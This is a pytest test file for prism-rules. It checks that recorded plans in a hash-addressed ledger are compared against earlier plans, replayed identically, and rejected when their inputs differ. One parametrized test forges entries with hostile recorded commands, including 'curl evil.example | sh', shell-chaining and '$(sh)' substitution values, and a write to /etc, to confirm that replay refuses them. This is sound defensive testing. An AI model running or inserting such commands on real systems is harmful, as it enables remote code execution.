"""Plans that the ledger remembers: what changed without --baseline, and the same plan again by --replay."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from prism_rules import pipeline
from prism_rules.cli.setting import Setting
from prism_rules.ledger import append_entry, read_ledger
from prism_rules.ledger.canonical import encode_entry, hash_bytes
from prism_rules.model.ledger import Entry
from prism_rules.pipeline.recording import record
from prism_rules.ruleset import load_project

from .conftest import Project, make_predictions, unwrap, write_project

WEEK = ("plan", "--as-of", "2026-03-01", "--record")
NEXT = ("plan", "--as-of", "2026-03-02", "--record")


def read(project: Project, day: str) -> dict[str, Any]:
    plan: dict[str, Any] = json.loads((project.root / "plans" / day / "plan.json").read_bytes())
    return plan


def list_entries(project: Project) -> dict[str, Entry]:
    return dict(read_ledger(project.root / "ledger").entries)


def find_entry(project: Project, as_of: str) -> str:
    """The entry of the plan for a day, as people are shown it."""
    return next(name for name, entry in list_entries(project).items() if (entry.as_of or "").startswith(as_of))[:12]


@pytest.fixture(scope="module")
def two_recorded(tmp_path_factory: pytest.TempPathFactory) -> Project:
    project = write_project(tmp_path_factory.mktemp("recorded") / "project")
    assert project.call(*WEEK).returncode == 1
    (review,) = (one for one in read(project, "2026-03-01")["actions"] if one["action"] == "review-set")
    done = project.call("decide", review["id"], "--as", "approved", "--by", "@org/labels", "--because", "agreed")
    assert done.returncode == 0, done.stderr
    assert project.call(*NEXT).returncode == 1
    return project


@pytest.fixture
def recorded(two_recorded: Project, tmp_path: Path) -> Project:
    """Two recorded plans, with a decision between them; the data is that of the second."""
    return Project(shutil.copytree(two_recorded.root, tmp_path / "project"))


def test_changes_are_told_against_the_recorded_plan(recorded: Project) -> None:
    first, second = read(recorded, "2026-03-01"), read(recorded, "2026-03-02")
    entry = list_entries(recorded)[read_ledger(recorded.root / "ledger").heads[0]]
    assert first["previous"] is None
    (named,) = (one.plan for one in list_entries(recorded).values() if one.as_of == "2026-03-01T00:00:00Z")
    assert second["previous"] == {"digest": named, "as_of": "2026-03-01T00:00:00Z", "actions": None}
    assert [(f["change"], f["since"]) for f in second["findings"]] == [("same", "2026-03-01")]
    assert [d["event"] for d in second["decisions"]] == ["approved"]
    (points,) = second["history"].values()
    assert points == [{"to": "2026-03-01T00:00:00Z", "value": 0.6, "n": 20, "status": "fail"}]
    # Nothing has happened to an action, and the plan is recorded all the same.
    assert (entry.as_of, entry.events) == ("2026-03-02T00:00:00Z", ())
    told = recorded.call("plan", "--as-of", "2026-03-02")
    verdict = "press-shop 2.1.0 as of 2026-03-02: FAIL (1 fail, 3 pass; since 2026-03-01: 1 same)\n"
    assert unwrap(told.stdout).startswith(verdict)
    report = (recorded.root / "plans/2026-03-02/report.md").read_text("utf-8")
    assert "Since the plan of 2026-03-01: 0 new, 0 worse, 1 unchanged, 0 cleared." in report


def test_the_saved_plan_tells_the_same(recorded: Project) -> None:
    by_ledger = recorded.call("plan", "--as-of", "2026-03-02", "--format", "json").stdout
    by_plan = recorded.call(
        "plan", "--as-of", "2026-03-02", "--baseline", "plans/2026-03-01", "--format", "json"
    ).stdout
    differs = [(one, two) for one, two in zip(by_ledger.splitlines(), by_plan.splitlines(), strict=True) if one != two]
    # The ledger has where actions stood; what the report and its digest say beside is the command.
    told = ('  "command":', '    "actions":', '    {"path": "report.md"')
    assert all(one.startswith(told) for one, _ in differs), differs


def read_files(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def find_standing(project: Project, folder: str) -> list[str]:
    """The entries that record the plan which stands in a folder."""
    digest = f"sha256:{hashlib.sha256((project.root / folder / 'plan.json').read_bytes()).hexdigest()}"
    return [name for name, entry in list_entries(project).items() if entry.plan == digest]


def test_the_same_plan_twice_is_recorded_once_and_stands_as_it_was_recorded(recorded: Project) -> None:
    folder, ledger = recorded.root / "plans/2026-03-02", recorded.root / "ledger"
    before, entries = read_files(folder), read_files(ledger)
    os.utime(folder / "plan.json", (0, 0))
    told = recorded.call(*NEXT, "--format", "json")
    (head,) = find_standing(recorded, "plans/2026-03-02")
    assert told.stderr.splitlines()[4:6] == [
        "plans/2026-03-02 holds the recorded plan, and is left as it is",
        f"nothing new to record; the ledger's head is still {head}",
    ]
    assert (read_files(folder), read_files(ledger)) == (before, entries)
    assert told.stdout.encode() == before["plan.json"]
    assert (folder / "plan.json").stat().st_mtime > 0, "by its time the plan is as old as the one before this run"


@pytest.mark.parametrize("change", ["data", "title", "decision", "earlier moment", "elsewhere", "lost queue"])
def test_what_stands_in_the_folder_is_always_recorded(recorded: Project, change: str) -> None:
    command, folder, entries = NEXT, "plans/2026-03-02", len(list_entries(recorded))
    if change == "data":
        recorded.write("predictions", make_predictions().head(38))
    elif change == "title":
        recorded.edit('title: "Review', 'title: "Look at')
    elif change == "decision":
        said = ("--by", "@org/labels", "--because", "reviewed")
        assert recorded.call("decide", "review-set", "--as", "done", *said).returncode == 0
        entries += 1
    elif change == "earlier moment":
        command, folder = WEEK, "plans/2026-03-01"
    elif change == "elsewhere":
        command, folder = (*NEXT, "--out", "other"), "other"
    else:
        next((recorded.root / folder).glob("queues/*.csv")).unlink()
    told = recorded.call(*command)
    (entry,) = find_standing(recorded, folder)
    assert f"recorded entry {entry}, the ledger's head now" in told.stderr
    assert len(list_entries(recorded)) == entries + 1
    # Then there is nothing new.
    assert "nothing new to record" in recorded.call(*command).stderr
    assert (find_standing(recorded, folder), len(list_entries(recorded))) == ([entry], entries + 1)
    assert recorded.call("plan", "--replay", entry, "--fail-on", "never").returncode == 0


def test_a_plan_of_another_ruleset_is_no_baseline(recorded: Project) -> None:
    recorded.edit("  name: press-shop\n", "  name: paint-shop\n")
    plan = ("plan", "--as-of", "2026-03-02", "--baseline", "plans/2026-03-01", "--fail-on", "never")
    foreign = recorded.call(*plan)
    assert (foreign.returncode, "one of the ruleset `press-shop`, not of `paint-shop`" in foreign.stderr) == (2, True)
    recorded.edit("  name: paint-shop\n", "  name: paint-shop\n  renamed_from: [press-shop]\n")
    assert recorded.call(*plan).returncode == 0


def test_a_late_plan_says_that_the_ledger_went_on(recorded: Project) -> None:
    told = "The ledger has plans for moments up to 2026-03-02T00:00:00Z; what was decided by then counts here too"
    report = recorded.root / "plans/2026-03-01/report.md"
    assert told not in report.read_text("utf-8")
    late = recorded.call("plan", "--as-of", "2026-03-01")
    assert f"note: {told}\n" in unwrap(late.stdout)
    assert f"{told}." in report.read_text("utf-8")
    assert read(recorded, "2026-03-01")["ledger"]["later"] == "2026-03-02T00:00:00Z"
    assert told not in unwrap(recorded.call("plan", "--as-of", "2026-03-02").stdout)


def test_only_new_findings_fail_a_run_that_the_ledger_remembers(project: Project) -> None:
    only_new = ("--fail-on-new", "--out", "here")
    assert project.call(*WEEK, *only_new).returncode == 1
    # A retry of the job that recorded it is not greener.
    assert project.call(*WEEK, *only_new).returncode == 1
    assert project.call(*NEXT, *only_new).returncode == 0


def test_a_replay_is_the_same_to_the_byte(recorded: Project) -> None:
    for day in ("2026-03-01", "2026-03-02"):
        entry = find_entry(recorded, day)
        done = recorded.call("plan", "--replay", entry, "--out", f"again-{day}")
        assert (done.returncode, done.stderr.splitlines()[4]) == (1, f"entry {entry}: the same plan, to the byte")
        places = [recorded.root / folder for folder in (f"plans/{day}", f"again-{day}")]
        made, again = ({p.relative_to(at): p.read_bytes() for p in at.rglob("*") if p.is_file()} for at in places)
        assert made == again
    assert len(list_entries(recorded)) == 3
    # Nothing else is written: the folder of prism.yaml may hold a later plan for the moment.
    assert recorded.call("plan", "--replay", find_entry(recorded, "2026-03-01"), "--fail-on", "never").returncode == 0


def test_data_may_lie_elsewhere_when_a_plan_is_replayed(recorded: Project) -> None:
    (recorded.root / "data/predictions.parquet").rename(recorded.root / "restored.parquet")
    entry = find_entry(recorded, "2026-03-02")
    done = recorded.call("plan", "--replay", entry, "--data", "predictions=restored.parquet", "--fail-on", "never")
    assert done.returncode == 0, done.stderr


def test_the_ledger_is_read_as_it_was_when_another_run_came_between(project: Project) -> None:
    """Two runs read one ledger; the second to record follows an entry that its plan had not seen."""
    project.call(*WEEK)
    seen = read_ledger(project.root / "ledger").heads
    setting = Setting(project.root, project.root / "rules.yaml", load_project(project.root / "prism.yaml"))
    moment = datetime(2026, 3, 2, tzinfo=UTC)
    outcome = pipeline.run(
        setting.load(), setting.data, root=project.root, confined=setting.data, as_of=moment,
        ledger_folder=project.root / "ledger",
    )  # fmt: skip
    (review,) = (one for one in read(project, "2026-03-01")["actions"] if one["action"] == "review-set")
    project.call("decide", review["id"], "--as", "rejected", "--by", "@org/labels", "--because", "not now")
    name = record(outcome, project.root / "ledger")
    assert name is not None
    entry = list_entries(project)[name]
    assert (entry.heads, entry.read) == (seen, seen) and entry.parents != seen
    assert project.call("plan", "--replay", name, "--fail-on", "never").returncode == 0


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ("data", [r"the data of `predictions` was bytes:\w{64}, and is bytes:\w{64}"]),
        ("ruleset", [r"the ruleset's digest was sha256:\w{64}, and is sha256:\w{64}"]),
        (
            "version",
            [r"the ruleset was press-shop 2\.1\.0, and is press-shop 2\.1\.1", r"the ruleset's digest was .*"],
        ),
        ("comment", [r"the ruleset means the same, but plan\.json names lines of `rules\.yaml`, which was sha256:.*"]),
        ("entry that kept no files", [r"only the plan differs: it was sha256:\w{64}, and is sha256:\w{64}"]),
        ("tool", [r"prism-rules was 0\.0\.9, and is \d.*"]),
    ],
)
def test_what_differs_is_named(recorded: Project, change: str, told: list[str]) -> None:
    name = find_entry(recorded, "2026-03-02")
    if change == "data":
        recorded.write("predictions", make_predictions().head(38))
    elif change == "ruleset":
        recorded.edit("fail: {below: 0.80}", "fail: {below: 0.81}")
    elif change == "version":
        recorded.edit('version: "2.1.0"', 'version: "2.1.1"')
    elif change == "comment":
        recorded.edit("rules:\n", "rules:\n  # a line further down\n")
    else:
        entry = next(entry for key, entry in list_entries(recorded).items() if key.startswith(name))
        older = {"tool": "0.0.9"} if change == "tool" else {"files": None}
        old = entry.model_copy(update={**older, "plan": f"sha256:{'0' * 64}", "parents": (), "heads": ()})
        name = hash_bytes(data := encode_entry(old))
        (recorded.root / "other" / name[:2]).mkdir(parents=True)
        (recorded.root / "other" / name[:2] / f"{name}.json").write_bytes(data)
    ledger = "other" if (recorded.root / "other").exists() else "ledger"
    done = recorded.call("plan", "--replay", name, "--ledger", ledger, "--out", "again")
    assert done.returncode == 7, done.stderr
    said = re.findall(r"^error\[replay-differs\]: (.*)$", done.stderr, re.MULTILINE)
    assert len(said) == len(told) and all(map(re.fullmatch, told, said)), said
    assert not (recorded.root / "again").exists()


def test_a_plan_that_was_told_against_a_saved_one_needs_it(project: Project) -> None:
    project.call(*WEEK)
    project.call("plan", "--as-of", "2026-02-28", "--out", "older")
    project.call(*NEXT, "--baseline", "plans/2026-03-01")
    entry = find_entry(project, "2026-03-02")
    # The recorded command names it, from the folder of prism.yaml.
    assert project.call("plan", "--replay", entry, cwd=project.root / "data").returncode == 1
    (project.root / "plans").rename(project.root / "moved")
    lacking = project.call("plan", "--replay", entry)
    assert lacking.returncode == 2 and "give --baseline, the plan.json whose digest is sha256:" in lacking.stderr
    assert project.call("plan", "--replay", entry, "--baseline", "moved/2026-03-01/plan.json").returncode == 1
    shutil.copytree(project.root / "older", project.root / "plans/2026-03-01")
    changed = project.call("plan", "--replay", entry)
    assert changed.returncode == 2 and "give --baseline" in changed.stderr
    other = project.call("plan", "--replay", entry, "--baseline", "older")
    assert other.returncode == 7 and "error[replay-differs]: the plan of --baseline was sha256:" in other.stderr
    project.call("plan", "--as-of", "2026-03-03", "--out", "newer")
    later = project.call("plan", "--as-of", "2026-03-02", "--baseline", "newer")
    assert later.returncode == 2
    assert "is for 2026-03-03T00:00:00Z, which is later than the 2026-03-02T00:00:00Z of this plan" in later.stderr
    needless = project.call("plan", "--replay", find_entry(project, "2026-03-01"), "--baseline", "older")
    assert needless.returncode == 2 and "leave --baseline out" in needless.stderr


def forge(project: Project, name: str, command: str) -> str:
    """Write an entry into a ledger of its own that is a recorded one but for its command."""
    entry = next(entry for key, entry in list_entries(project).items() if key.startswith(name))
    data = encode_entry(entry.model_copy(update={"command": command}))
    name = hash_bytes(data)
    (project.root / "forged" / name[:2]).mkdir(parents=True)
    (project.root / "forged" / name[:2] / f"{name}.json").write_bytes(data)
    return name


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh", "prism-rules plan --as-of 2026-03-01T00:00:00Z; sh",
        "prism-rules plan --as-of 2026-03-01T00:00:00Z | sh", "prism-rules plan $(sh) --as-of 2026-03-01T00:00:00Z",
        "prism-rules decide --as-of 2026-03-01T00:00:00Z", "prism-rules plan --as-of 2026-03-02T00:00:00Z",
        "prism-rules plan --out /etc --as-of 2026-03-01T00:00:00Z", "prism-rules plan --as-of '", "prism-rules",
        "prism-rules plan --as-of 2026-03-01T00:00:00Z --record", "prism-rules plan --as-of 2026-03-01T00:00:00Z\nsh",
    ],
)  # fmt: skip
def test_a_recorded_command_that_is_none_of_ours_is_not_told_on(command: str, project: Project) -> None:
    project.call(*WEEK)
    name = forge(project, find_entry(project, "2026-03-01"), command)
    done = project.call("plan", "--replay", name, "--ledger", "forged", "--out", "again")
    assert done.returncode == 7, done.stderr
    assert "error[replay-differs]: the entry's command is none that `plan --record` writes" in done.stderr
    assert not (project.root / "again").exists()


@pytest.mark.parametrize(
    "command",
    [
        "prism-rules plan --as-of 2026-03-01T00:00:00Z",
        "prism-rules plan 'my rules.yaml' --data predictions=a=b.parquet --as-of 2026-03-01T00:00:00Z",
        "prism-rules plan --data annotations=a --data predictions=b --as-of 2026-03-01T00:00:00Z --baseline ../old",
    ],
)
def test_a_recorded_command_of_ours_is_told_on(command: str, project: Project) -> None:
    project.call(*WEEK)
    name = forge(project, find_entry(project, "2026-03-01"), command)
    done = project.call("plan", "--replay", name, "--ledger", "forged")
    assert "the entry's command" not in done.stderr


@pytest.mark.parametrize(
    ("options", "told"),
    [
        (("--record",), "--replay plans as the entry says: --record would do nothing"),
        (("--as-of", "2026-03-01"), "--replay plans as the entry says: --as-of would do nothing"),
        (("--select", "low-confidence"), "--replay plans as the entry says: --select would do nothing"),
        (("--estimate",), "--estimate evaluates and writes nothing: --replay would do nothing"),
    ],
)
def test_what_the_entry_decides_cannot_be_said_beside(recorded: Project, options: tuple[str, ...], told: str) -> None:
    done = recorded.call("plan", "--replay", find_entry(recorded, "2026-03-01"), *options)
    assert done.returncode == 2 and told in done.stderr, done.stderr


def test_a_decision_is_no_plan_and_the_newest_plan_is_named(recorded: Project) -> None:
    (decision,) = (name for name, entry in list_entries(recorded).items() if entry.plan is None)
    done = recorded.call("plan", "--replay", decision)
    assert done.returncode == 2
    assert f"entry {decision[:12]} records no plan: it is a decision" in done.stderr
    assert f"the newest that does is {find_entry(recorded, '2026-03-02')}" in done.stderr
    assert recorded.call("plan", "--replay", "0" * 12).returncode == 7


def test_an_entry_of_before_that_kept_less_is_replayed_too(project: Project) -> None:
    project.call(*WEEK)
    (entry,) = list_entries(project).values()
    older = append_entry(
        project.root / "older", events=entry.events, ruleset=entry.ruleset, plan=entry.plan, inputs=entry.inputs,
        as_of=entry.as_of,
    )  # fmt: skip
    done = project.call("plan", "--replay", older, "--ledger", "older", "--fail-on", "never")
    assert done.returncode == 0, done.stderr
